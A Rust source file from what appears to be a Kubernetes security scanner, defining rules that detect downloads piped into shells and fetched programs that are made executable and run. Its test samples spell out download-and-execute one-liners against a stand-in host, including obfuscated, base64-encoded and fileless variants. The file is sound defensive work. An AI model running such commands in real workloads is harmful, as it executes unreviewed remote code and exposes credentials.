//! Programs and scripts that come over the network.

use super::places::is_temporary;
use super::words::{cluster, has, operands, option, words};
use super::{COMMAND, Facts, Rule, Sample, Severity, each_match};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::findings::Collector;
use crate::detect::{code, derive};
use crate::normalize::exec::is_shell;
use crate::normalize::path::canonical_cow;
use crate::normalize::{Execution, Invocation};

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-download-exec",
        title: "Download piped into an interpreter",
        message: "runs what it downloads, without storing it",
        meaning: "What is run is decided by the server at the time of the request; nobody has reviewed it.",
        false_positives: "Installers that are documented as `curl … | sh`.",
        confirm: &[
            Step::Object(
                "The URL, and what reads it: sh, bash, python. Compare the host with the one that the \
                 vendor documents.",
            ),
            Step::Logs(
                "What the downloaded script did. If it says nothing, fetch the URL in a sandbox, never \
                 from your own machine; it may answer differently by now.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "The script was whatever the server sent at that moment. Assume it had everything that \
                     the pod could reach. Block the host, and look for it in the command of other workloads \
                     and in proxy logs.",
            benign: "Build an image that has the tool in it. If it must be fetched, fetch one released \
                     version over HTTPS into a file, check it with sha256sum -c against a value in the \
                     manifest, and only then run it.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1105", "T1059.004"],
        references: &[links::IMAGES, links::SUPPLY_CHAIN],
        check: |facts, found| runs_input_of(facts, found, &|call| is_downloader(call) && prints(call)),
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -fsSL http://192.0.2.10/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, args: [/bin/sh, -c, 'wget -q -O - http://192.0.2.10/s | sudo bash -s -- -y']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'bash <(curl -s http://192.0.2.10/s)']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'source <(curl -s http://192.0.2.10/s)']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'eval \"$(wget -qO- http://192.0.2.10/s)\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, '(curl -s u || wget -qO- u || aria2c u) | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cu\"\"rl${IFS}http://192.0.2.10/s|s\"\"h']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'X=$(curl -s http://192.0.2.10/s); sh -c \"$X\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'python3 -c \"$(curl -s http://192.0.2.10/s)\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import os; os.system(\"curl http://192.0.2.10/s | sh\")']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'echo Y3VybCB4fHNo | base64 -d | sh']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | jq .status']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/list | python3 -c \"import json\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | while read id; do bash -c \"process $id\"; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'V=$(curl -s http://svc/v); sh -c \"deploy $V\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'until $(curl --output /dev/null -sf --head https://svc); do sleep 1; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'eval $(ssh-agent -s) && curl -s http://svc']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -so /x http://svc/x; echo done | sh']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [/app/digest, 'curl http://x/s | sh']}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-download-run",
        title: "Downloaded program run",
        message: "downloads a program and runs it",
        meaning: "A file is fetched, made executable and run: what it is depends on the server.",
        false_positives: "Fetching a released tool, better done with an image; a checksum in between makes it less.",
        confirm: &[
            Step::Object(
                "The URL and the file that is made executable. A path under /tmp, /dev/shm or a name with \
                 a dot in front speaks for an attack; a checksum in between speaks against it.",
            ),
            Step::Logs(
                "What the program printed: version banners of a known tool, or pool, wallet and connection \
                 messages.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Get a copy of the file, from a pod that still runs or from the URL in a sandbox, and \
                     keep its SHA-256: it tells you what it was and finds it elsewhere.",
            benign: "Put the program into an image. If that is not possible, pin the version in the URL \
                     and verify a checksum that stands in the manifest before chmod +x; that lowers the \
                     points.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1105"],
        references: &[links::IMAGES, links::SUPPLY_CHAIN],
        check: |facts, found| {
            for run in &facts.runs {
                let code =
                    run.invocations().find(|(_, call)| code::text(call).is_some_and(code::runs_fetched));
                if let Some((at, _)) = code {
                    found.hit(Some(&run.container.name), run.path(), &run.show(at));
                } else if let Some((at, verified)) = runs_written_file(&run.execution, &is_downloader) {
                    let (severity, points) =
                        if verified { (Severity::Medium, 30) } else { (Severity::High, 45) };
                    found.hit_as(severity, points, Some(&run.container.name), run.path(), &run.show(at));
                }
            }
        },
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/a https://dl.example.test/a; gpg --version; sha256sum /etc/hosts; chmod +x /tmp/a; /tmp/a']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd /tmp; wget http://192.0.2.10/m; chmod 755 m; ./m --go']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -P /dev/shm http://192.0.2.10/m; chmod 700 /dev/shm/m; nohup /dev/shm/m &']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s > /tmp/s; sh /tmp/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import urllib.request as u; exec(u.urlopen(\"http://192.0.2.10/s\").read())']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import os,requests;f=os.memfd_create(\"\");os.write(f,requests.get(\"http://192.0.2.10/m\").content)']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'chmod +x /app/run && /app/run']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [python3, -c, 'import requests; print(requests.get(\"http://svc/x\").json())']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-downloader",
        title: "Command-line download",
        message: "downloads with a command-line tool",
        meaning: "Alone it says little; together with other findings it shows where the payload comes from.",
        false_positives: "Health checks, web hooks, data feeds.",
        confirm: &[Step::Object(
            "The URL, and what happens to the answer: printed and thrown away is a health check, piped \
                 or stored and run is another finding.",
        )],
        remedy: Remedy {
            exposes: &[],
            attack: "Alone it proves nothing. See which other findings the workload has, and whether the \
                     URL is one of yours.",
            benign: "Nothing to change for a call to a known service. Limit where the pod may connect with \
                     a NetworkPolicy for egress.",
        },
        severity: Severity::None,
        points: 3,
        techniques: &["T1105"],
        references: &[links::NETWORK_POLICY],
        check: |facts, found| each_match(facts, found, |_, _, invocation| is_downloader(invocation)),
        samples: &[
            Sample::Hit(3, "containers: [{name: a, command: [curl, -sf, 'http://svc/health']}]"),
            Sample::Miss("containers: [{name: a, command: [echo, curl]}]"),
        ],
        ..COMMAND
    },
];

/// Command-line tools that fetch.
pub(in crate::detect) fn is_downloader(invocation: &Invocation) -> bool {
    matches!(
        invocation.program.as_str(),
        "curl"
            | "wget"
            | "wget2"
            | "aria2c"
            | "axel"
            | "fetch"
            | "lwp-download"
            | "lwp-request"
            | "GET"
            | "lynx"
            | "ftpget"
            | "tftp"
            | "http"
            | "https"
            | "xh"
    )
}

/// Whether what is fetched comes out on standard output. `until $(curl -o /dev/null --head …)` is an idiom.
fn prints(invocation: &Invocation) -> bool {
    let only_head = words(invocation)
        .any(|word| word == "--head" || cluster(word).is_some_and(|flags| flags.contains('I')));
    let to_file = |file: &str| !matches!(file, "-" | "/dev/stdout");
    let named = option(invocation, &["-o", "--output", "-O", "--output-document"])
        .filter(|_| invocation.program != "curl" || !has(invocation, &["-O"]));
    !only_head && !named.is_some_and(to_file)
}

/// Hits for everything that runs the output of a source.
pub(super) fn runs_input_of(
    facts: &Facts<'_>,
    found: &mut Collector<'_>,
    is_source: &impl Fn(&Invocation) -> bool,
) {
    for run in &facts.runs {
        let fed = run.fed(is_source);
        let sink = run
            .invocations()
            .find(|(at, invocation)| fed.get(*at) == Some(&true) && runs_its_input(invocation));
        if let Some((at, _)) = sink {
            found.hit(Some(&run.container.name), run.path(), &run.show_flow(at, is_source));
        }
    }
}

/// Takes a program from its standard input or its words and runs it: a shell or an interpreter without a
/// script of its own, `eval`, `source`.
fn runs_its_input(invocation: &Invocation) -> bool {
    let program = invocation.program.as_str();
    // Text that begins with what was substituted: `sh -c "$(curl …)"`, and not `sh -c "deploy $V"`.
    let begins = |text: &str| text.trim_start().starts_with(['$', '`']);
    let operand = invocation.args.iter().find(|word| !word.text.starts_with('-'));
    match program {
        // Output that is known beforehand stands there already, marked as disguised.
        "eval" => return operand.is_some_and(|word| begins(&word.text) || word.disguised),
        "source" | "." => {
            return operand.is_some_and(|word| {
                word.text.starts_with("<(") || matches!(word.text.as_str(), "/dev/stdin" | "-")
            });
        }
        // A program whose name came from there.
        "$()" => return invocation.args.is_empty(),
        _ => {}
    }
    let is_stdin = |text: &str| matches!(text, "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0");
    // A process substitution or standard input by name is no script of its own.
    let from_input = operand.is_none_or(|word| word.text.starts_with("<(") || is_stdin(&word.text));
    // `sh -s -- ARGUMENTS` reads its input, whatever operands follow.
    let reads =
        words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
    if is_shell(program) {
        let inline = words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('c')));
        return if inline {
            operand.is_some_and(|word| begins(&word.text) || word.disguised)
        } else {
            from_input || reads
        };
    }
    match code::inline(invocation) {
        Some(code) => begins(code),
        None => {
            code::reads_stdin(invocation)
                || code::language(program).is_some_and(|l| l != code::Language::Awk)
                    && operand.is_some_and(|word| word.text.starts_with("<("))
        }
    }
}

/// The first invocation that runs a file which a source wrote, and whether a checksum was verified in between.
pub(super) fn runs_written_file(
    execution: &Execution,
    is_source: &impl Fn(&Invocation) -> bool,
) -> Option<(usize, bool)> {
    let mut files: Vec<&str> = Vec::new();
    let mut fetched = false;
    let (mut verified, mut unpacked) = (false, false);
    for (at, invocation) in execution.commands.iter().enumerate() {
        if is_source(invocation) {
            files.extend(written_files(invocation));
            fetched = true;
            // Bounds the work: a script with more downloads than this is hit by the first ones.
            files.truncate(64);
            continue;
        }
        if matches!(invocation.program.as_str(), "tar" | "bsdtar" | "unzip" | "7z" | "cpio") {
            unpacked |= fetched;
        }
        // An archive has many files: one that is run from a directory for temporary files is likely of it.
        if unpacked && is_temporary(&invocation.path) {
            return Some((at, true));
        }
        if files.is_empty() {
            continue;
        }
        if is_checksum(invocation) {
            verified = true;
        } else if let Some(moved) = moved_file(invocation, &files).filter(|_| files.len() < 128) {
            files.push(moved);
        } else if runs_one_of(invocation, &files) {
            return Some((at, verified));
        }
    }
    None
}

/// Whether a command compares what was fetched with something: `gpg --version` and `sha256sum FILE` do not.
fn is_checksum(invocation: &Invocation) -> bool {
    let has = |options: &[&str]| words(invocation).any(|word| options.contains(&word));
    match invocation.program.as_str() {
        "sha256sum" | "sha512sum" | "sha1sum" | "shasum" | "md5sum" | "b2sum" => {
            has(&["-c", "--check", "-sc", "-wc"])
        }
        "gpg" | "gpg2" => has(&["--verify"]),
        "gpgv" => true,
        "cosign" => has(&["verify", "verify-blob", "verify-attestation", "verify-blob-attestation"]),
        "minisign" | "signify" => {
            words(invocation).any(|word| word.starts_with("-V") || word.starts_with("-qV"))
        }
        _ => false,
    }
}

/// `mv FILE TARGET`, `cp FILE TARGET`, `install … FILE TARGET`: the target, if the file is one of those.
fn moved_file<'a>(invocation: &'a Invocation, files: &[&str]) -> Option<&'a str> {
    if !matches!(invocation.program.as_str(), "mv" | "cp" | "ln" | "install") {
        return None;
    }
    let moves = words(invocation).take(64).any(|word| files.iter().any(|file| same_file(file, word)));
    let target = words(invocation).next_back()?;
    (moves && !files.iter().any(|file| same_file(file, target))).then_some(target)
}

fn runs_one_of(invocation: &Invocation, files: &[&str]) -> bool {
    let is_file = |text: &str| !text.is_empty() && files.iter().any(|file| same_file(file, text));
    let takes_script = is_shell(&invocation.program)
        || code::language(&invocation.program).is_some()
        || matches!(invocation.program.as_str(), "source" | ".");
    is_file(&invocation.path) || takes_script && operands(invocation).next().is_some_and(is_file)
}

/// Whether two spellings name the same file: a leading `./` aside, and a bare name fits any directory.
fn same_file(written: &str, run: &str) -> bool {
    // Nothing longer is a path; each word is compared with many files.
    if written.len() > 4096 || run.len() > 4096 {
        return false;
    }
    let (written, run) = (canonical_cow(written), canonical_cow(run));
    let (written, run) = (written.trim_start_matches("./"), run.trim_start_matches("./"));
    written == run
        || !written.contains('/') && run.strip_suffix(written).is_some_and(|front| front.ends_with('/'))
}

/// The names of the files that a tool writes.
pub(super) fn written_files(invocation: &Invocation) -> Vec<&str> {
    let all: Vec<&str> = words(invocation).collect();
    let mut files = Vec::new();
    let program = invocation.program.as_str();
    let is_curl = program == "curl";
    for (index, word) in all.iter().enumerate() {
        let next = || all.get(index + 1).copied();
        let value = match *word {
            "-O" if is_curl => None,
            "-o" | "--output" | "--output-document" | "-O" | "--out" => next(),
            _ if word.starts_with("--output=") || word.starts_with("--output-document=") => {
                word.split_once('=').map(|(_, file)| file)
            }
            // Clusters with the flag last: -sSLo FILE, -qO FILE; or with the value attached: -oFILE.
            flags if is_curl && cluster(flags).is_some() && flags.ends_with('o') => next(),
            flags if program == "wget" && cluster(flags).is_some() && flags.ends_with('O') => next(),
            flags if is_curl && flags.starts_with("-o") && flags.len() > 2 => flags.get(2..),
            flags if program == "wget" && flags.starts_with("-O") && flags.len() > 2 => flags.get(2..),
            _ => None,
        };
        files.extend(value);
    }
    let redirects = invocation.redirects.iter().filter(|redirect| redirect.takes_stdout());
    files.extend(redirects.map(|redirect| redirect.target.text.as_str()));
    // wget FILE-URL and curl -O name the file after the URL.
    let by_url = is_downloader(invocation)
        && (!is_curl
            || all.iter().any(|word| {
                *word == "--remote-name" || cluster(word).is_some_and(|flags| flags.contains('O'))
            }));
    if files.is_empty() && by_url {
        files.extend(
            all.iter()
                .filter(|word| word.contains("://") || word.contains('.') && word.contains('/'))
                .filter_map(|url| {
                    let path = url.split(['?', '#']).next().unwrap_or(url);
                    path.rsplit('/').next().filter(|name| !name.is_empty())
                }),
        );
    }
    files.retain(|file| !matches!(*file, "-" | "" | "/dev/null" | "/dev/stdout" | "/dev/stderr"));
    files
}

/// Whether something decodes, for the rules about hidden text.
pub(super) fn is_decoder(invocation: &Invocation) -> bool {
    derive::is_decoder(invocation)
}
